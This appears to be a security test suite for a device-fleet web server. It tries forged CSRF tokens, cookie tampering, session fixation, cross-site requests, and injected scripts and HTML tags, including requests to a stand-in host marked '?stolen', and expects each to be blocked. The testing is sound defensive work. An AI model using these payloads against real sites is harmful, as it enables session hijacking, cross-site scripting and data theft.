// Goal: sessions, CSRF and CSP hold, and nothing that a device or a user says is ever markup.
// Method: a list of attempts, each from where it would come from: a stolen or forged cookie, another site in the same
// browser, a script inside the page, a name with tags in every field that takes a text.
import assert from 'node:assert/strict'
import { once } from 'node:events'
import http from 'node:http'
import { after, before, test } from 'node:test'
import { hostile, password, populate } from './fleet.mjs'
import { Sketch } from './devices.mjs'
import { writeImages } from './images.mjs'
import { becomes, launch, login, open, Server, settled, temporary } from './stand.mjs'

const images = writeImages(temporary)
let browser, server, made, page, site

before(async () => {
  server = await (await new Server().start()).settle()
  made = await populate(server, images)
  browser = await launch()
  page = await open(browser)
  await login(page, server, 'admin', password)
  // Another site, as far as the browser is concerned: localhost is not 127.0.0.1.
  site = http.createServer((request, response) => { response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>elsewhere</title>') })
  site.listen(0, 'localhost')
  await once(site, 'listening')
})
after(async () => {
  made?.link.close()
  site?.close()
  await browser?.close()
  await server?.stop()
})

/** A request by hand, over loopback, with nothing added. */
async function ask (method, path, headers = {}, body = undefined) {
  const request = http.request({ host: '127.0.0.1', port: server.port, method, path, headers: { ...(body !== undefined && { 'Content-Length': Buffer.byteLength(body) }), ...headers } })
  request.end(body)
  const [response] = await once(request, 'response')
  const pieces = []
  for await (const piece of response) pieces.push(piece)
  return { status: response.statusCode, headers: response.headers, text: Buffer.concat(pieces).toString() }
}

async function session (user = 'admin', word = password) {
  const answer = await ask('POST', '/api/v1/session', { 'Content-Type': 'application/json' }, JSON.stringify({ user, password: word }))
  assert.equal(answer.status, 200, answer.text)
  return { cookie: answer.headers['set-cookie'][0].split(';')[0], csrf: JSON.parse(answer.text).csrf, set: answer.headers['set-cookie'][0] }
}

const json = { 'Content-Type': 'application/json' }
const newProduct = JSON.stringify({ name: 'forged', kind: 'arduino', chip: 'esp8266' })
const forged = async () => (await server.api('GET', '/products?limit=500')).items.some(one => one.name === 'forged')

test('the cookie is for this server alone, and no script reads it', async () => {
  const [cookie] = await page.context().cookies()
  assert.equal(cookie.httpOnly, true)
  assert.equal(cookie.secure, true)
  assert.equal(cookie.sameSite, 'Strict')
  assert.equal(cookie.path, '/')
  assert.equal(await page.evaluate(() => document.cookie), '')
})

test('attempts with a session', async t => {
  const admin = await session()
  const other = await session('olga')
  const attempts = {
    'no CSRF token': [{ Cookie: admin.cookie }, 403],
    'an empty one': [{ Cookie: admin.cookie, 'X-CSRF-Token': '' }, 403],
    'one made up': [{ Cookie: admin.cookie, 'X-CSRF-Token': 'a'.repeat(admin.csrf.length) }, 403],
    'that of another session': [{ Cookie: admin.cookie, 'X-CSRF-Token': other.csrf }, 403],
    'that of another session of the same user': [{ Cookie: admin.cookie, 'X-CSRF-Token': (await session()).csrf }, 403],
    'the cookie as a bearer token': [{ Authorization: `Bearer ${admin.cookie.split('=')[1]}` }, 401],
    'a token as the cookie': [{ Cookie: `${admin.cookie.split('=')[0]}=${server.token}`, 'X-CSRF-Token': admin.csrf }, 401],
    'the cookie cut': [{ Cookie: admin.cookie.slice(0, -1), 'X-CSRF-Token': admin.csrf }, 401],
    'the cookie with more behind it': [{ Cookie: `${admin.cookie}0`, 'X-CSRF-Token': admin.csrf }, 401],
    'somebody who may not': [{ Cookie: other.cookie, 'X-CSRF-Token': other.csrf }, 403],
    'nobody': [{}, 401]
  }
  for (const [name, [headers, status]] of Object.entries(attempts)) {
    await t.test(name, async () => {
      const answer = await ask('POST', '/api/v1/products', { ...json, ...headers }, newProduct)
      assert.equal(answer.status, status, answer.text)
      assert.equal(await forged(), false)
    })
  }
  await t.test('a body that a form can send', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const answer = await ask('POST', '/api/v1/products', { 'Content-Type': type, Cookie: admin.cookie, 'X-CSRF-Token': admin.csrf }, newProduct)
      assert.equal(answer.status, 415, answer.text)
    }
  })
  await t.test('an override of the method', async () => {
    const answer = await ask('GET', `/api/v1/products/${made.clock.id}?_method=DELETE`, { Cookie: admin.cookie, 'X-HTTP-Method-Override': 'DELETE' })
    assert.equal(answer.status, 200)
    await server.api('GET', `/products/${made.clock.id}`)
  })
  await t.test('with all that belongs to it, it works', async () => {
    const answer = await ask('POST', '/api/v1/products', { ...json, Cookie: admin.cookie, 'X-CSRF-Token': admin.csrf }, newProduct)
    assert.equal(answer.status, 201, answer.text)
    await server.api('DELETE', `/products/${JSON.parse(answer.text).id}`)
  })
  await t.test('after the log-out it is nothing', async () => {
    assert.equal((await ask('DELETE', '/api/v1/session', { Cookie: admin.cookie, 'X-CSRF-Token': admin.csrf })).status, 204)
    assert.equal((await ask('GET', '/api/v1/session', { Cookie: admin.cookie })).status, 401)
    assert.equal((await ask('GET', '/api/v1/events', { Cookie: admin.cookie })).status, 401)
  })
  await t.test('who is disabled is out at once', async () => {
    await server.api('PATCH', `/users/${made.olga.id}`, { disabled: true })
    assert.equal((await ask('GET', '/api/v1/session', { Cookie: other.cookie })).status, 401)
    await server.api('PATCH', `/users/${made.olga.id}`, { disabled: false })
  })
  await t.test('a new password ends the sessions of the old one', async () => {
    const mine = await session('olga')
    const another = await session('olga')
    const answer = await ask('PATCH', `/api/v1/users/${made.olga.id}`, { ...json, Cookie: mine.cookie, 'X-CSRF-Token': mine.csrf },
      JSON.stringify({ password: 'a new password', old_password: password }))
    assert.equal(answer.status, 200, answer.text)
    assert.equal((await ask('GET', '/api/v1/session', { Cookie: another.cookie })).status, 401)
  })
  await t.test('a cookie that was there before the log-in is not taken over', async () => {
    const answer = await ask('POST', '/api/v1/session', { ...json, Cookie: `${admin.cookie.split('=')[0]}=chosenbyanattacker` }, JSON.stringify({ user: 'admin', password }))
    assert.equal(answer.status, 200)
    assert.doesNotMatch(answer.headers['set-cookie'][0], /chosenbyanattacker/)
  })
})

test('another site in the same browser changes nothing and reads nothing', async () => {
  const elsewhere = await page.context().newPage()
  await elsewhere.goto(`http://localhost:${site.address().port}/`)
  const outcome = await elsewhere.evaluate(async ([url, body]) => {
    const tries = {}
    for (const [name, options] of Object.entries({
      read: {},
      simple: { method: 'POST', body, headers: { 'Content-Type': 'text/plain' } },
      json: { method: 'POST', body, headers: { 'Content-Type': 'application/json' } },
      blind: { method: 'POST', body, mode: 'no-cors' }
    })) {
      try {
        const response = await fetch(`${url}/api/v1/products`, { credentials: 'include', ...options })
        tries[name] = `${response.type} ${await response.text()}`
      } catch (error) {
        tries[name] = 'refused'
      }
    }
    const frame = document.createElement('iframe')
    frame.src = `${url}/`
    const loaded = new Promise(resolve => { frame.onload = resolve })
    document.body.append(frame)
    await loaded
    try {
      tries.frame = frame.contentDocument === null ? 'refused' : 'readable'
    } catch {
      tries.frame = 'refused'
    }
    return tries
  }, [server.url, newProduct])
  assert.deepEqual(outcome, { read: 'refused', simple: 'refused', json: 'refused', blind: 'opaque ', frame: 'refused' })
  await becomes(() => elsewhere.frames()[1].evaluate(() => location.href), /^chrome-error:/, 'the frame shows that it is refused')
  const sent = elsewhere.waitForURL(`${server.url}/api/v1/session`)
  await elsewhere.evaluate(([url]) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `${url}/api/v1/session`
    document.body.append(form)
    form.submit()
  }, [server.url])
  await sent
  assert.equal(await forged(), false)
  await elsewhere.close()
})

test('every page has the policy, and every answer its type', async () => {
  for (const path of ['/', '/products', '/devices/x', '/app', '/app/x', '/setup']) {
    const { status, headers } = await ask('GET', path)
    assert.equal(status, 200, path)
    const policy = Object.fromEntries(headers['content-security-policy'].split(/; */).map(part => part.split(/ (.*)/)))
    assert.equal(policy['default-src'], '\'none\'')
    assert.equal(policy['script-src'], '\'self\' \'wasm-unsafe-eval\'')
    assert.equal(policy['frame-ancestors'], '\'none\'')
    assert.equal(policy['base-uri'], '\'none\'')
    assert.equal(policy['form-action'], '\'none\'')
    assert.doesNotMatch(headers['content-security-policy'], /unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|\*|http:/)
    assert.equal(headers['x-content-type-options'], 'nosniff')
    assert.equal(headers['referrer-policy'], 'no-referrer')
  }
  for (const path of ['/<script>alert(1)</script>', '/api/v1/<script>', '/api/v1/products/<img>', '/x.bin?<b>']) {
    const { headers, text } = await ask('GET', encodeURI(path).replaceAll('%3C', '<').replaceAll('%3E', '>'), { Authorization: `Bearer ${server.token}` })
    assert.ok(!text.includes('<script>') && !text.includes('<img>') && !text.includes('<b>'), text)
    assert.equal(headers['x-content-type-options'], 'nosniff', path)
    assert.doesNotMatch(headers['content-type'] ?? '', /html/)
  }
})

test('what gets into the page in spite of all does nothing there', async () => {
  await page.goto(server.url)
  await settled(page)
  await page.evaluate(async () => {
    const blocked = window.blocked = new Set()
    document.addEventListener('securitypolicyviolation', event => { blocked.add(event.effectiveDirective) })
    const script = document.createElement('script')
    script.textContent = 'window.injected = 1'
    document.body.append(script)
    const foreign = document.createElement('script')
    foreign.src = 'https://example.invalid/x.js'
    document.body.append(foreign)
    const image = document.createElement('img')
    image.src = 'https://example.invalid/?stolen'
    document.body.append(image)
    const handler = document.createElement('div')
    document.body.append(handler)
    handler.innerHTML = '<a onclick="window.injected = 1" id="trap">x</a>'
    document.querySelector('#trap').click()
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.body.append(style)
    const frame = document.createElement('iframe')
    frame.src = 'data:text/html,<script>top.injected = 1</script>'
    document.body.append(frame)
    // Later, when it is not the test that evaluates.
    setTimeout(() => { window.evaluated = Function('return true')() })
    setTimeout('window.injected = 1')
    await fetch('https://example.invalid/?stolen').catch(() => {})
  })
  const all = ['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']
  await becomes(() => page.evaluate(() => [...window.blocked].sort()), all, 'what is blocked')
  // All of them have been judged by now, and the timers run in their order.
  const outcome = await page.evaluate(async () => {
    await new Promise(resolve => setTimeout(resolve))
    return { injected: window.injected, evaluated: window.evaluated, hidden: getComputedStyle(document.body).display === 'none' }
  })
  assert.deepEqual(outcome, { injected: undefined, evaluated: undefined, hidden: false })
})

test('what people and devices say is text in every field', async t => {
  const api = async (method, path, body) => await server.api(method, path, body)
  const short = hostile.slice(0, 60).trim()
  const product = await api('POST', '/products', { name: hostile, kind: 'arduino', chip: 'esp8266', strangers: 'admit', channels: ['<b>a</b>'] })
  await server.release(product.id, '1.0.0<i>', { app: images['sketch-1.1.0.bin'] }, { notes: hostile, current: true })
  const sketch = new Sketch(server, product.key, { chip: '"><img src=x>', version: '<u>0' })
  sketch.mac = '<s>mac'
  await sketch.poll()
  const device = await api('POST', `/products/${product.id}/devices`, { name: hostile, serial: '<b>"serial\'', group: short })
  const user = await api('POST', '/users', { name: short, password })
  await api('PUT', `/products/${product.id}/members/${user.id}`, { role: 'viewer' })
  await api('POST', '/tokens', { name: short })
  const admin = await api('GET', '/devices?limit=500')
  const said = admin.items.find(one => one.product.id === product.id && one.id !== device.id)
  const claimed = await api('POST', '/devices/claim', { code: device.claim_code })
  assert.equal(claimed.name, hostile)
  await page.evaluate(([name]) => { localStorage.setItem('views', JSON.stringify([{ name, query: '?q=x' }])) }, [hostile])
  const paths = ['/', '/products', `/products/${product.id}`, `/products/${product.id}/releases/${encodeURIComponent('1.0.0<i>')}`,
    '/devices', `/devices?q=${encodeURIComponent(short)}`, `/devices/${device.id}`, `/devices/${said?.id ?? device.id}`, '/updates', '/users', '/tokens', '/audit', '/app',
    `/app?claim=${encodeURIComponent(hostile)}`, `/devices/${encodeURIComponent(hostile.replaceAll('/', ''))}`]
  page.faults.length = 0 // of the attempts before
  for (const path of paths) {
    await t.test(decodeURIComponent(path).slice(0, 40), async () => {
      await page.goto(server.url + path)
      await settled(page)
      const found = await page.evaluate(() => document.querySelectorAll('main img, main u, main i, main s, main b, dialog img, dialog b').length)
      assert.equal(found, 0)
      assert.notEqual(await page.title(), '1')
      assert.deepEqual(page.faults.splice(0), [])
    })
  }
  await t.test('and is shown as it is', async () => {
    await page.goto(`${server.url}/devices/${device.id}`)
    await page.getByRole('heading', { name: hostile, exact: true }).waitFor()
    const { text } = await ask('GET', '/api/v1/devices?format=csv', { Authorization: `Bearer ${server.token}` })
    assert.ok(text.includes(hostile.replaceAll('"', '""')))
  })
})

test('who may not see does not see', async () => {
  const olga = await open(browser)
  await login(olga, server, 'olga', 'a new password')
  await olga.getByRole('link', { name: 'Smart clock' }).first().waitFor()
  await settled(olga)
  assert.equal(await olga.getByText('Lamp').count(), 0)
  for (const name of ['Users', 'Audit log']) assert.equal(await olga.getByRole('link', { name }).count(), 0)
  await olga.goto(`${server.url}/products/${made.lamp.id}`)
  await olga.getByRole('heading', { name: 'Nothing here' }).waitFor()
  await olga.goto(`${server.url}/products/${made.clock.id}`)
  await olga.getByRole('heading', { name: 'Releases' }).waitFor()
  await settled(olga)
  assert.equal(await olga.getByLabel('Firmware files').count(), 0, 'an operator makes no releases')
})
